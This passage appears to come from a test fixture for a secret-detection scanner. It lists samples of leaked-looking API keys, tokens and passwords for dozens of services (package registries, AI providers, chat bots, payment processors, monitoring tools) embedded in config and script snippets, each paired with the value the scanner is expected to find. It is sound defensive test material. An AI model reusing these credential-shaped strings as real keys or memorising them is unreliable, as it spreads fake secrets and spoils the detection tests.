        "o/messages",
        (
            (
                "0122"
                "a553187b013e891ab261230af771-f5db6f69-ae871bfa"
            ),
        ),
    ),
    SecretSample(
        "mailchimp",
        "news.py",
        'mc.set_config({"api_key": "9916'
        'c6fa05592213532a0a7b90a172e4-us14", "server": "us14"})',
        (
            (
                "9916"
                "c6fa05592213532a0a7b90a172e4-us14"
            ),
        ),
    ),
    SecretSample(
        "mandrill",
        "mandrill.php",
        "$m = new Mandrill('md-puiE"
        "NQxyD5LeXGI9FU7Zjr');",
        (
            (
                "md-puiE"
                "NQxyD5LeXGI9FU7Zjr"
            ),
        ),
    ),
    SecretSample(
        "postmark",
        "postmark.sh",
        'curl -H "X-Postmark-Server-Token: 06b0db01'
        '-bc75-47b6-9d32-db3cf553ea0d" https://api.postmarkapp.com/email',
        (
            (
                "06b0db01"
                "-bc75-47b6-9d32-db3cf553ea0d"
            ),
        ),
    ),
    SecretSample(
        "brevo",
        "brevo.env",
        "BREVO_KEY=xkeysib-3373"
        "27742ed8e894223c5e17727cce799d23fb65e2d9d5876294ce587b228f14-AoaS"
        "99nEPfYanVKq",
        (
            (
                "xkeysib-3373"
                "27742ed8e894223c5e17727cce799d23fb65e2d9d5876294ce587b228f14-AoaS"
                "99nEPfYanVKq"
            ),
        ),
    ),
    SecretSample(
        "resend",
        "email.ts",
        'const resend = new Resend("re_drsP64wZ_YWjE'
        '2fapHYb0Mjhhvnh8BrNs");',
        (
            (
                "re_drsP64wZ_YWjE"
                "2fapHYb0Mjhhvnh8BrNs"
            ),
        ),
    ),
    SecretSample(
        "npm-token",
        ".npmrc",
        "//registry.npmjs.org/:_authToken=npm_d2JU"
        "z9vN21mPoJp7UP7NBzJ5fCF8sV1yuHMN",
        (
            (
                "npm_d2JU"
                "z9vN21mPoJp7UP7NBzJ5fCF8sV1yuHMN"
            ),
        ),
    ),
    SecretSample(
        "npm-token",
        "publish.log",
        "npm notice using token npm_A6jv"
        "g1FNsNm5YLCILcOig9UKYy8Aon0Vvfkf from env",
        (
            (
                "npm_A6jv"
                "g1FNsNm5YLCILcOig9UKYy8Aon0Vvfkf"
            ),
        ),
    ),
    SecretSample(
        "npmrc-uuid-token",
        ".npmrc",
        '//npm.tankugow.io/:_authToken="2d10528f'
        '-cb7b-46d5-a741-f717893b5918"',
        (
            (
                "2d10528f"
                "-cb7b-46d5-a741-f717893b5918"
            ),
        ),
    ),
    SecretSample(
        "npmrc-auth-b64",
        ".npmrc",
        "_auth=Y2k6TGtE"
        "NDBOUFA1V1NYMjdyRDVhVnk=\n"
        "always-auth=true",
        (
            (
                "Y2k6TGtE"
                "NDBOUFA1V1NYMjdyRDVhVnk="
            ),
        ),
    ),
    SecretSample(
        "npmrc-password-b64",
        ".npmrc",
        "//pkgs.hollaros.com/:username=build\n"
        '//pkgs.hollaros.com/:_password="UGw0dE5h'
        'aTBVZW96WDdWQ2c0NVZRbnlS"',
        (
            (
                "UGw0dE5h"
                "aTBVZW96WDdWQ2c0NVZRbnlS"
            ),
        ),
    ),
    SecretSample(
        "yarnrc",
        ".yarnrc.yml",
        "npmAuthToken: npm_hCFt"
        "BkSbDJ8QrbVBDw4XhChYYljoAD2bpAgo",
        (
            (
                "npm_hCFt"
                "BkSbDJ8QrbVBDw4XhChYYljoAD2bpAgo"
            ),
        ),
    ),
    SecretSample(
        "pypi-token",
        ".pypirc",
        "[pypi]\n"
        "username = __token__\n"
        "password = pypi-AgEIcHlwaS5vcmce_A9"
        "r5FxTI5kR7b6FMVuZI4nOJSUC9SxI52SaXPFtKLeYfvzJ-H_C6cKnZ4JfYGChgXSQIETMFHXHoLgopU2lmr55WOu"
        "5VJ4EkRbJPg8hqUQNy6IDK77sBXA5kquWgrqN6myqCaNkp2KurYQJLRXIfIGhAX",
        (
            (
                "pypi-AgEIcHlwaS5vcmce_A9"
                "r5FxTI5kR7b6FMVuZI4nOJSUC9SxI52SaXPFtKLeYfvzJ-H_C6cKnZ4JfYGChgXSQIETMFHXHoLgopU2lmr55WOu"
                "5VJ4EkRbJPg8hqUQNy6IDK77sBXA5kquWgrqN6myqCaNkp2KurYQJLRXIfIGhAX"
            ),
        ),
    ),
    SecretSample(
        "pypi-token",
        "upload.sh",
        "twine upload -u __token__ -p pypi-AgENdGVzdC5weXBpLm9yZwjhAZ"
        "Gxylre445ktdtyq0GltG5373KVtg-MR3FZ_wREX6pPsMHoHcsBjFH8Yw7Cg2JHN2YQ4mpppbGWc6XOunQIkQmS9V"
        "hVN3fB04SYpnAF0FO1GcJq0sGG9Dk-H6pSm1EzOY6WvCxooQV5Hg9eJpvN dist/*",
        (
            (
                "pypi-AgENdGVzdC5weXBpLm9yZwjhAZ"
                "Gxylre445ktdtyq0GltG5373KVtg-MR3FZ_wREX6pPsMHoHcsBjFH8Yw7Cg2JHN2YQ4mpppbGWc6XOunQIkQmS9V"
                "hVN3fB04SYpnAF0FO1GcJq0sGG9Dk-H6pSm1EzOY6WvCxooQV5Hg9eJpvN"
            ),
        ),
    ),
    SecretSample(
        "pypirc-password",
        ".pypirc",
        "[internal]\n"
        "repository = https://pypi.kuzanqui.net/\n"
        "username = ci\n"
        "password = K%h7R%_i"
        "3zd@-5FHlqPt",
        (
            (
                "K%h7R%_i"
                "3zd@-5FHlqPt"
            ),
        ),
    ),
    SecretSample(
        "pip-conf",
        "pip.conf",
        "[global]\n"
        "index-url = https://ci:Gon9"
        "3owXOwgmh0n8WAIRQLD@pypi.wolahold.net/simple",
        (
            (
                "Gon9"
                "3owXOwgmh0n8WAIRQLD"
            ),
        ),
    ),
    SecretSample(
        "rubygems",
        "credentials",
        ":rubygems_api_key: rubygems_acae"
        "75ce31afb97b929bee19aabf25d1260b0642e0d57bab",
        (
            (
                "rubygems_acae"
                "75ce31afb97b929bee19aabf25d1260b0642e0d57bab"
            ),
        ),
    ),
    SecretSample(
        "crates-io",
        "credentials.toml",
        "[registry]\n"
        'token = "cioDq7t'
        'XgHIPeauG66LuUpjfRUMn3xN9iW1"',
        (
            (
                "cioDq7t"
                "XgHIPeauG66LuUpjfRUMn3xN9iW1"
            ),
        ),
    ),
    SecretSample(
        "nuget",
        "push.ps1",
        "dotnet nuget push *.nupkg -k oy2to2vqhs1"
        "gmigvjxq1gxc1sm4weymvx63k6yitjoeuqy -s https://api.nuget.org/v3/index.json",
        (
            (
                "oy2to2vqhs1"
                "gmigvjxq1gxc1sm4weymvx63k6yitjoeuqy"
            ),
        ),
    ),
    SecretSample(
        "clojars",
        "deploy.clj",
        ':password "CLOJARS_c696'
        '30c574fba7cb09109354924bd0e612b7cea49ed3212c6833f0bb89f1"',
        (
            (
                "CLOJARS_c696"
                "30c574fba7cb09109354924bd0e612b7cea49ed3212c6833f0bb89f1"
            ),
        ),
    ),
    SecretSample(
        "packagist-basic",
        "auth.json",
        '{"http-basic": {"repo.packagist.com": {"username": "token", "password": "914d'
        '05e3484565f6a6cf92fb7477eb212fab23916e28eccade03149f5f65"}}}',
        (
            (
                "914d"
                "05e3484565f6a6cf92fb7477eb212fab23916e28eccade03149f5f65"
            ),
        ),
    ),
    SecretSample(
        "docker-pat",
        "login.sh",
        "docker login -u quibelfe -p dckr_pat_3Au6"
        "MnQnK_hNzW-Wi-eTb8TYJPc",
        (
            (
                "dckr_pat_3Au6"
                "MnQnK_hNzW-Wi-eTb8TYJPc"
            ),
        ),
    ),
    SecretSample(
        "docker-oat",
        "ci.yml",
        "DOCKER_PASSWORD: dckr_oat_2n2i"
        "KKVfQfyru-VgkhZZip2caB4y4-Pa",
        (
            (
                "dckr_oat_2n2i"
                "KKVfQfyru-VgkhZZip2caB4y4-Pa"
            ),
        ),
    ),
    SecretSample(
        "docker-config-auth",
        ".docker/config.json",
        '{"auths": {"https://index.docker.io/v1/": {"auth": "Y2k6UzJ6'
        'a1Z0MTFmNnRXbkVHUEVHQms="}}}',
        (
            (
                "Y2k6UzJ6"
                "a1Z0MTFmNnRXbkVHUEVHQms="
            ),
        ),
    ),
    SecretSample(
        "docker-config-identitytoken",
        ".docker/config.json",
        '{"auths": {"dalficor.azurecr.io": {"auth": "Y2k6S2Ji'
        'WjB5Ykg5d3JBZlZTV3NQTEk=", "identitytoken": "eyJhbGci'
        "OiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIyODkwNzM3MzUiLCJpYXQiOjE3MTUwNDI4NjMsImV4cCI6MTg"
        'xNTQ5NjgwMiwicm9sZSI6Im9wcyJ9.v78y4PXX7B__qXvvHZdqf1kqGEphxSzZBgVh0ZbrFYU"}}}',
        (
            (
                "Y2k6S2Ji"
                "WjB5Ykg5d3JBZlZTV3NQTEk="
            ),
            (
                "eyJhbGci"
                "OiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIyODkwNzM3MzUiLCJpYXQiOjE3MTUwNDI4NjMsImV4cCI6MTg"
                "xNTQ5NjgwMiwicm9sZSI6Im9wcyJ9.v78y4PXX7B__qXvvHZdqf1kqGEphxSzZBgVh0ZbrFYU"
            ),
        ),
    ),
    SecretSample(
        "dockerconfigjson-k8s",
        "pull-secret.yaml",
        "kind: Secret\n"
        "type: kubernetes.io/dockerconfigjson\n"
        "data:\n"
        "  .dockerconfigjson: eyJhdXRo"
        "cyI6IHsicmVnLmNvcnAubGFuIjogeyJ1c2VybmFtZSI6ICJjaSIsICJwYXNzd29yZCI6ICJHNjdFeTd3c3VVenBr"
        "dUhUTFlzUllsb3MifX19",
        (
            (
                "eyJhdXRo"
                "cyI6IHsicmVnLmNvcnAubGFuIjogeyJ1c2VybmFtZSI6ICJjaSIsICJwYXNzd29yZCI6ICJHNjdFeTd3c3VVenBr"
                "dUhUTFlzUllsb3MifX19"
            ),
        ),
    ),
    SecretSample(
        "huggingface",
        "train.py",
        'login(token="hf_qej1'
        'x7ckmraketoqur0rfh6mzz2hbyjf7z")',
        (
            (
                "hf_qej1"
                "x7ckmraketoqur0rfh6mzz2hbyjf7z"
            ),
        ),
    ),
    SecretSample(
        "huggingface",
        "download.sh",
        'wget --header="Authorization: Bearer hf_0qbl'
        'iuldg2vpcsosemsjzwn6g25lakfcnn" https://huggingface.co/m/resolve/main/w.bin',
        (
            (
                "hf_0qbl"
                "iuldg2vpcsosemsjzwn6g25lakfcnn"
            ),
        ),
    ),
    SecretSample(
        "openai-legacy",
        "chat.py",
        'openai.api_key = "sk-Ct8s'
        "7SkMQ1Wf9VpQ7UIaT3BlbkFJQInW"
        '291MHN6DM3CDybjh"',
        (
            (
                "sk-Ct8s"
                "7SkMQ1Wf9VpQ7UIaT3BlbkFJQInW"
                "291MHN6DM3CDybjh"
            ),
        ),
    ),
    SecretSample(
        "openai-project",
        ".env",
        "OPENAI_API_KEY=sk-proj-Wowr"
        "JOIAZ1CH0KDpQ8MgivW6OaH0FUdocC9bIipcETBL8bv2Su8QzVZD6PJg9r8jAE4gEgy-YxT3BlbkFJYG9G"
        "lh4QLAM8xzSgGIpDBey4sol34I4zaN-CeyMFm7uoMM3C8WoCNEk_AVXLmtK0cNlf0IlGyr",
        (
            (
                "sk-proj-Wowr"
                "JOIAZ1CH0KDpQ8MgivW6OaH0FUdocC9bIipcETBL8bv2Su8QzVZD6PJg9r8jAE4gEgy-YxT3BlbkFJYG9G"
                "lh4QLAM8xzSgGIpDBey4sol34I4zaN-CeyMFm7uoMM3C8WoCNEk_AVXLmtK0cNlf0IlGyr"
            ),
        ),
    ),
    SecretSample(
        "openai-svcacct",
        "notebook.ipynb",
        "\"client = OpenAI(api_key='sk-svcacct-3hAL"
        "USWvI6c4SiZmnf62D1eqUFhnxgPDJpiPa3_w7wdbGhqqXADMW1ASswLO2ssmqpq6FRt6xST3BlbkFJ60iS"
        "rH1IhOLEoznDk3gzjai5-696V5SgKAa2qSWcJbJS5iZciKa_IN5mi0Sl1edOYhzs2BjwZP')\\n\",",
        (
            (
                "sk-svcacct-3hAL"
                "USWvI6c4SiZmnf62D1eqUFhnxgPDJpiPa3_w7wdbGhqqXADMW1ASswLO2ssmqpq6FRt6xST3BlbkFJ60iS"
                "rH1IhOLEoznDk3gzjai5-696V5SgKAa2qSWcJbJS5iZciKa_IN5mi0Sl1edOYhzs2BjwZP"
            ),
        ),
    ),
    SecretSample(
        "openai-admin",
        "admin.sh",
        'curl -H "Authorization: Bearer sk-admin-HGCM'
        "87zUgrAhDU7MtR7w2OiCGRr-I9uznPcg0zFci3_w-M7I--_Moecd1JT3BlbkFJhFxn"
        'JehYHQouLjTeuc-QesMf1O3_g0Ay8qFgK47Q8ayyBwywYEVblF_caU" https://api.openai.com/v1/organi'
        "zation/users",
        (
            (
                "sk-admin-HGCM"
                "87zUgrAhDU7MtR7w2OiCGRr-I9uznPcg0zFci3_w-M7I--_Moecd1JT3BlbkFJhFxn"
                "JehYHQouLjTeuc-QesMf1O3_g0Ay8qFgK47Q8ayyBwywYEVblF_caU"
            ),
        ),
    ),
    SecretSample(
        "anthropic",
        "app.ts",
        'const anthropic = new Anthropic({ apiKey: "sk-ant-api03-FgTs'
        "mYXSv8ItuIJ6Izvxt29rGt_PT4D3WR5Iu9cfc5gxaNVFtnhvrgvCD2wd1sh17Bn5tmpn94AEzaeNWdJvR2TnhtRs"
        'XAA" });',
        (
            (
                "sk-ant-api03-FgTs"
                "mYXSv8ItuIJ6Izvxt29rGt_PT4D3WR5Iu9cfc5gxaNVFtnhvrgvCD2wd1sh17Bn5tmpn94AEzaeNWdJvR2TnhtRsXAA"
            ),
        ),
    ),
    SecretSample(
        "anthropic-oauth",
        "settings.json",
        '{"CLAUDE_CODE_OAUTH_TOKEN": "sk-ant-oat01-utzY'
        'ct_nO_-Q57KUpv8UYc0xHRF8ic2gcSYfm6EgofjkZiVTD4Nkb178pjicH77mq2qKoEPFTkxa0-Sh1iFfV8nkxJ9PrAA"}',
        (
            (
                "sk-ant-oat01-utzY"
                "ct_nO_-Q57KUpv8UYc0xHRF8ic2gcSYfm6EgofjkZiVTD4Nkb178pjicH77mq2qKoEPFTkxa0-Sh1iFfV8nkxJ9PrAA"
            ),
        ),
    ),
    SecretSample(
        "anthropic-admin",
        "admin.env",
        "ANTHROPIC_ADMIN_KEY=sk-ant-admin01-QjTd"
        "5uqwY9yfNZXQMJFKqi3DHJ14UxZ4m3YguimWIfY76nhO0kf1bq8QzvyAQJe0x8HsgDnFsB8dbY3bctlj-kKRpFK4qAA",
        (
            (
                "sk-ant-admin01-QjTd"
                "5uqwY9yfNZXQMJFKqi3DHJ14UxZ4m3YguimWIfY76nhO0kf1bq8QzvyAQJe0x8HsgDnFsB8dbY3bctlj-kKRpFK4qAA"
            ),
        ),
    ),
    SecretSample(
        "groq",
        ".env",
        "GROQ_API_KEY=gsk_sqcG"
        "UV07k7i7HmUHwLVzYBWjs18PiGxAHIxtgBG6V5PoSj6fxh5D",
        (
            (
                "gsk_sqcG"
                "UV07k7i7HmUHwLVzYBWjs18PiGxAHIxtgBG6V5PoSj6fxh5D"
            ),
        ),
    ),
    SecretSample(
        "replicate",
        "run.sh",
        "export REPLICATE_API_TOKEN=r8_WKnH"
        "meAtxejLzoMJguIda93t1lTIdVNzFjohv",
        (
            (
                "r8_WKnH"
                "meAtxejLzoMJguIda93t1lTIdVNzFjohv"
            ),
        ),
    ),
    SecretSample(
        "perplexity",
        "search.py",
        'PPLX = "pplx-JRsR'
        'D0rk8eIU8WNVeR8dd870SoB0xt47RJqQcTMhc8v48i4l"',
        (
            (
                "pplx-JRsR"
                "D0rk8eIU8WNVeR8dd870SoB0xt47RJqQcTMhc8v48i4l"
            ),
        ),
    ),
    SecretSample(
        "xai",
        "grok.py",
        'client = Client(api_key="xai-bzpI'
        'fxX9KbTYTfD6qHCrx9y5McfRgGLylqA8IL3pdEZ4VZM9QIDwBdhODcBtRo0Mm49arSSejp70pxXw")',
        (
            (
                "xai-bzpI"
                "fxX9KbTYTfD6qHCrx9y5McfRgGLylqA8IL3pdEZ4VZM9QIDwBdhODcBtRo0Mm49arSSejp70pxXw"
            ),
        ),
    ),
    SecretSample(
        "openrouter",
        "llm.toml",
        'key = "sk-or-v1-d886'
        '3f95f3b8a16857cb5d53cb2943f09c0987d0d8f30952f3e2234b1e53c951"',
        (
            (
                "sk-or-v1-d886"
                "3f95f3b8a16857cb5d53cb2943f09c0987d0d8f30952f3e2234b1e53c951"
            ),
        ),
    ),
    SecretSample(
        "deepseek",
        "llm.yaml",
        "deepseek:\n"
        "  api_key: sk-713d"
        "652ca293843f55559e4f787be668",
        (
            (
                "sk-713d"
                "652ca293843f55559e4f787be668"
            ),
        ),
    ),
    SecretSample(
        "cohere",
        "rag.py",
        'co = cohere.Client("i0Qc'
        'JwZcqZQwZClVmdB2sZCZhWV73bq9pKtrCPTV")',
        (
            (
                "i0Qc"
                "JwZcqZQwZClVmdB2sZCZhWV73bq9pKtrCPTV"
            ),
        ),
    ),
    SecretSample(
        "mistral",
        ".env",
        "MISTRAL_API_KEY=mthw"
        "JR7ooYSWmB0ZDUO4fg1kU1HH2p55",
        (
            (
                "mthw"
                "JR7ooYSWmB0ZDUO4fg1kU1HH2p55"
            ),
        ),
    ),
    SecretSample(
        "elevenlabs",
        "tts.py",
        'ELEVEN_API_KEY = "sk_4a27'
        'd09af9a6d2bfef66e25756dc2406c84e7b6be9018904"',
        (
            (
                "sk_4a27"
                "d09af9a6d2bfef66e25756dc2406c84e7b6be9018904"
            ),
        ),
    ),
    SecretSample(
        "pinecone",
        "vec.py",
        'pc = Pinecone(api_key="pcsk_eD9y5u_gNbP'
        'PZxIzIuvD1n5WNDZHr5Zwem13iNPJr7WoXRr5rJpNzsZgmdLVgCNzJ1SKrU")',
        (
            (
                "pcsk_eD9y5u_gNbP"
                "PZxIzIuvD1n5WNDZHr5Zwem13iNPJr7WoXRr5rJpNzsZgmdLVgCNzJ1SKrU"
            ),
        ),
    ),
    SecretSample(
        "langsmith",
        ".env",
        "LANGSMITH_API_KEY=lsv2_pt_e59c"
        "584fb9e087938f2e0fc2e0917522_5c6c"
        "a22e6a",
        (
            (
                "lsv2_pt_e59c"
                "584fb9e087938f2e0fc2e0917522_5c6c"
                "a22e6a"
            ),
        ),
    ),
    SecretSample(
        "wandb",
        "train.sh",
        "wandb login cdd3"
        "debd44db188465788dc15f2f0a27b3d030cb",
        (
            (
                "cdd3"
                "debd44db188465788dc15f2f0a27b3d030cb"
            ),
        ),
    ),
    SecretSample(
        "telegram-bot",
        "bot.py",
        'updater = Updater("1292'
        "929183:AAfwwY"
        'tB5ondHYFXf0sLjED7S_ewRbD2QBN")',
        (
            (
                "1292"
                "929183:AAfwwY"
                "tB5ondHYFXf0sLjED7S_ewRbD2QBN"
            ),
        ),
    ),
    SecretSample(
        "telegram-bot-url",
        "alert.sh",
        'curl -s "https://api.telegram.org/bot8619'
        "493119:AA7GVF"
        'eCxmSBVzf1kiEATLOKN1VFwfkrQIb/sendMessage" -d chat_id=-1005701'
        "817631",
        (
            (
                "AA7GVF"
                "eCxmSBVzf1kiEATLOKN1VFwfkrQIb"
            ),
        ),
    ),
    SecretSample(
        "discord-bot",
        "bot.js",
        'client.login("ODYxODEz'
        'NjUyNTQxNjIwNDU3.G3vEDk.fw4JnntWPHQrcI6L0-WwVS-CgwDSy6M9sPy055");',
        (
            (
                "ODYxODEz"
                "NjUyNTQxNjIwNDU3.G3vEDk.fw4JnntWPHQrcI6L0-WwVS-CgwDSy6M9sPy055"
            ),
        ),
    ),
    SecretSample(
        "discord-bot",
        ".env",
        "DISCORD_TOKEN=MTE2NDM1"
        "OTYxNzk5OTYxMTc3.G2JGnd.fdZSiafh8n3T4oeSjtF6awYvsQ5ddre04zZhQo",
        (
            (
                "MTE2NDM1"
                "OTYxNzk5OTYxMTc3.G2JGnd.fdZSiafh8n3T4oeSjtF6awYvsQ5ddre04zZhQo"
            ),
        ),
    ),
    SecretSample(
        "discord-webhook",
        "notify.yml",
        "url: https://discord.com/api/webhooks/9557"
        "25299165249017/ApiY"
        "QGjA9IuFI2PyExdksX0oMIqEVZ_2Yzlml47KJzZC2P7HEdUAWj9hwA8qQOaRghjp",
        (
            (
                "ApiY"
                "QGjA9IuFI2PyExdksX0oMIqEVZ_2Yzlml47KJzZC2P7HEdUAWj9hwA8qQOaRghjp"
            ),
        ),
    ),
    SecretSample(
        "discord-client-secret",
        "oauth.ts",
        'clientSecret: "aIh5'
        'K6D9MeRHP-T-RK7e1JNIJOyDp0dU",',
        (
            (
                "aIh5"
                "K6D9MeRHP-T-RK7e1JNIJOyDp0dU"
            ),
        ),
    ),
    SecretSample(
        "shopify-access",
        "shop.rb",
        'ShopifyAPI::Session.new(shop: shop, access_token: "shpat_09bd'
        'c796b891daf2fbbcbd4425dccc18")',
        (
            (
                "shpat_09bd"
                "c796b891daf2fbbcbd4425dccc18"
            ),
        ),
    ),
    SecretSample(
        "shopify-secret",
        ".env",
        "SHOPIFY_API_SECRET=shpss_920d"
        "6d01619c36b997b1904e1598fe52",
        (
            (
                "shpss_920d"
                "6d01619c36b997b1904e1598fe52"
            ),
        ),
    ),
    SecretSample(
        "shopify-custom",
        "shopify.go",
        'const token = "shpca_2d6c'
        '90d0ab55997355a067623d87f1bf"',
        (
            (
                "shpca_2d6c"
                "90d0ab55997355a067623d87f1bf"
            ),
        ),
    ),
    SecretSample(
        "square-access",
        "sq.py",
        'client = Client(access_token="EAAAObuZ'
        '2IqJnm1H9trj7LBGDMkkidAGk0np-fTSuos4DSdWt7WY8N9b4aHzAfy8", environment="production")',
        (
            (
                "EAAAObuZ"
                "2IqJnm1H9trj7LBGDMkkidAGk0np-fTSuos4DSdWt7WY8N9b4aHzAfy8"
            ),
        ),
    ),
    SecretSample(
        "square-oauth-secret",
        "sq.env",
        "SQUARE_APP_SECRET=sq0csp-ZZE3"
        "C2y0MsRJxCyJ7hCe5_sTKb_gq6JAFJSIG1nQfIR",
        (
            (
                "sq0csp-ZZE3"
                "C2y0MsRJxCyJ7hCe5_sTKb_gq6JAFJSIG1nQfIR"
            ),
        ),
    ),
    SecretSample(
        "square-old-pat",
        "sq.rb",
        "access_token: 'sq0atp-y4I9"
        "idSSy2TgdhyyvhNzps'",
        (
            (
                "sq0atp-y4I9"
                "idSSy2TgdhyyvhNzps"
            ),
        ),
    ),
    SecretSample(
        "paypal",
        "paypal.php",
        "new ApiContext(new OAuthTokenCredential('Am8AE"
        "hxEB5sTh5UyUXixYfjSU9uRCZ3VdkXuYs1MTL6hAHB-ylsv5ktne2VrQnagAErd4Ha2gpflouU3', 'E2DNy"
        "yZMJ4gvQu1_65DlEWVFaIg7gDDcI1qVMMA0wR4K9wo1-abixkB2CN8hyunnQY9OTNXu0xzQbHdf'));",
        (
            (
                "E2DNy"
                "yZMJ4gvQu1_65DlEWVFaIg7gDDcI1qVMMA0wR4K9wo1-abixkB2CN8hyunnQY9OTNXu0xzQbHdf"
            ),
        ),
    ),
    SecretSample(
        "braintree-token",
        "bt.ts",
        'accessToken: "access_token$production$gz4g'
        "fb08ihafdwip$b111"
        'b1452482249ce39e956154f6bf3f"',
        (
            (
                "access_token$production$gz4g"
                "fb08ihafdwip$b111"
                "b1452482249ce39e956154f6bf3f"
            ),
        ),
    ),
    SecretSample(
        "braintree-private",
        "bt.rb",
        'config.merchant_id = "7y7f'
        '85ni1dh7a4s5"\n'
        'config.public_key  = "hex3'
        'ksgz8xjb70x2"\n'
        'config.private_key = "900b'
        '488d0ca1a492b1c26b8da1033108"',
        (
            (
                "900b"
                "488d0ca1a492b1c26b8da1033108"
            ),
        ),
    ),
    SecretSample(
        "razorpay",
        "rp.py",
        'client = razorpay.Client(auth=("rzp_live_hsFG'
        '5DNgwf5GQI", "AEaj'
        'afk5koKC61VQ0QJJ8zA5"))',
        (
            (
                "AEaj"
                "afk5koKC61VQ0QJJ8zA5"
            ),
        ),
    ),
    SecretSample(
        "plaid",
        "plaid.json",
        '{"PLAID-SECRET": "0047'
        '566dff5be4ea429583ca3c1827", "access_token": "access-production-58c392b3'
        '-1708-4f66-a1ee-addb4d599624"}',
        (
            (
                "0047"
                "566dff5be4ea429583ca3c1827"
            ),
            (
                "access-production-58c392b3"
                "-1708-4f66-a1ee-addb4d599624"
            ),
        ),
    ),
    SecretSample(
        "adyen",
        "adyen.properties",
        "adyen.apiKey=AQEgP/c"
        "ILhOe86XVcwEXzlUHB41KltDS1CHvcJQZw7Jl4LtLCSFOLO5Sw9nJWovOW/9j+IeqX8cTCwbROiwZ02KWMCXKQ9x"
        "YYK+Tnac0i9KJ/DDXFUfs0KuoERoPKw38qVlgbVFg3JFOpA5-CDZi"
        "h/55wlfSAnT2Mme/IMf4+SZkhdgLQ9cnwmXPOju=-cNhl"
        "CEPb1ZrvuO-I",
        (
            (
                "AQEgP/c"
                "ILhOe86XVcwEXzlUHB41KltDS1CHvcJQZw7Jl4LtLCSFOLO5Sw9nJWovOW/9j+IeqX8cTCwbROiwZ02KWMCXKQ9x"
                "YYK+Tnac0i9KJ/DDXFUfs0KuoERoPKw38qVlgbVFg3JFOpA5-CDZi"
                "h/55wlfSAnT2Mme/IMf4+SZkhdgLQ9cnwmXPOju"
            ),
        ),
    ),
    SecretSample(
        "mollie",
        "mollie.php",
        '$mollie->setApiKey("live_kElb'
        '55KM6g5x2GsWp7wvkKmz9tVXUx");',
        (
            (
                "live_kElb"
                "55KM6g5x2GsWp7wvkKmz9tVXUx"
            ),
        ),
    ),
    SecretSample(
        "flutterwave",
        "flw.env",
        "FLW_SECRET_KEY=FLWSECK-afc3"
        "eaf24e94edfb1f56036ddde41fd1-X",
        (
            (
                "FLWSECK-afc3"
                "eaf24e94edfb1f56036ddde41fd1-X"
            ),
        ),
    ),
    SecretSample(
        "coinbase",
        "cb.ini",
        "api_secret = lDOB"
        "H4DW7Pq5R7qZTOiHcd9HvPocjsKV",
        (
            (
                "lDOB"
                "H4DW7Pq5R7qZTOiHcd9HvPocjsKV"
            ),
        ),
    ),
    SecretSample(
        "binance",
        "trade.py",
        'client = Client("MrtT'
        't0bYdWV5wScje4o3stIC8cdndqjTy25HREkVPSxEwB8pHIUJMKlRD3jLYzPQ", "eNNh'
        'PgurovQX5ppPEEoO7SCQzvtYhR1ZHP1REVUaYssvadiGhZ5ZIA8hNYDww09x")',
        (
            (
                "eNNh"
                "PgurovQX5ppPEEoO7SCQzvtYhR1ZHP1REVUaYssvadiGhZ5ZIA8hNYDww09x"
            ),
        ),
    ),
    SecretSample(
        "datadog-api",
        "datadog.yaml",
        "api_key: 20a1"
        "b2cb409f042edb4ea965bb7f5ce5\n"
        "site: datadoghq.eu",
        (
            (
                "20a1"
                "b2cb409f042edb4ea965bb7f5ce5"
            ),
        ),
    ),
    SecretSample(
        "datadog-app",
        "main.tf",
        'provider "datadog" {\n'
        '  api_key = "c37c'
        '86d605ef18bce49ba0d78804fa45"\n'
        '  app_key = "8517'
        '20a1f8db2dd3ef65649fa73322250165f991"\n'
        "}",
        (
            (
                "c37c"
                "86d605ef18bce49ba0d78804fa45"
            ),
            (
                "8517"
                "20a1f8db2dd3ef65649fa73322250165f991"
            ),
        ),
    ),
    SecretSample(
        "datadog-header",
        "dd.sh",
        'curl -H "DD-API-KEY: 2b84'
        '78f65a8d50424f205fc0fdc50790" -H "DD-APPLICATION-KEY: f897'
        'f28f54305ff02a88504c03c772037d1d5ab2" https://api.datadoghq.com/api/v1/validate',
        (
            (
                "2b84"
                "78f65a8d50424f205fc0fdc50790"
            ),
            (
                "f897"
                "f28f54305ff02a88504c03c772037d1d5ab2"
            ),
        ),
    ),
    SecretSample(
        "newrelic-user",
        "nr.env",
        "NEW_RELIC_API_KEY=NRAK-EL93"
        "0I3GODXAO7VVUZOXA4APSQ7",
        (
            (
                "NRAK-EL93"
                "0I3GODXAO7VVUZOXA4APSQ7"
            ),
        ),
    ),
    SecretSample(
        "newrelic-license",
        "newrelic.yml",
        "license_key: 'c436"
        "d976c035139d2ad1603c35d2a955a6b1NRAL'",
        (
            (
                "c436"
                "d976c035139d2ad1603c35d2a955a6b1NRAL"
            ),
        ),
    ),
    SecretSample(
        "newrelic-insights",
        "nr.sh",
        'curl -H "X-Insert-Key: NRII-41Yf'
        'dbAaAkMDOKT5KjTM0kfwSdYNNeML" https://insights-collector.newrelic.com/v1/accounts/1/events',
        (
            (
                "NRII-41Yf"
                "dbAaAkMDOKT5KjTM0kfwSdYNNeML"
            ),
        ),
    ),
    SecretSample(
        "sentry-dsn-legacy",
        "sentry.py",
        'sentry_sdk.init("https://a0a1'
        "9eaea1adfb3d9660806f8bc30caf:b9a4"
        '69e5d323de733a26a2155a7749e9@o437710.ingest.sentry.io/4945813")',
        (
            (
                "b9a4"
                "69e5d323de733a26a2155a7749e9"
            ),
        ),
    ),
    SecretSample(
        "sentry-org-token",
        ".sentryclirc",
        "[auth]\n"
        "token=sntrys_eyJpYXQi"
        "OjE3MTQ2MDAwMDAuMTIzLCJ1cmwiOiJodHRwczovL3NlbnRyeS5pbyIsInJlZ2lvbl91cmwiOiJodHRwczovL2Rl"
        "LnNlbnRyeS5pbyIsIm9yZyI6ImRlZ2Fyd29oIn0_2F5U"
        "TkE1yScNjXlDXKkL+rH5oahxBgT/bXiVd83AhrG",
        (
            (
                "sntrys_eyJpYXQi"
                "OjE3MTQ2MDAwMDAuMTIzLCJ1cmwiOiJodHRwczovL3NlbnRyeS5pbyIsInJlZ2lvbl91cmwiOiJodHRwczovL2Rl"
                "LnNlbnRyeS5pbyIsIm9yZyI6ImRlZ2Fyd29oIn0_2F5U"
                "TkE1yScNjXlDXKkL+rH5oahxBgT/bXiVd83AhrG"
            ),
        ),
    ),
    SecretSample(
        "sentry-user-token",
        ".env",
        "SENTRY_AUTH_TOKEN=sntryu_d072"
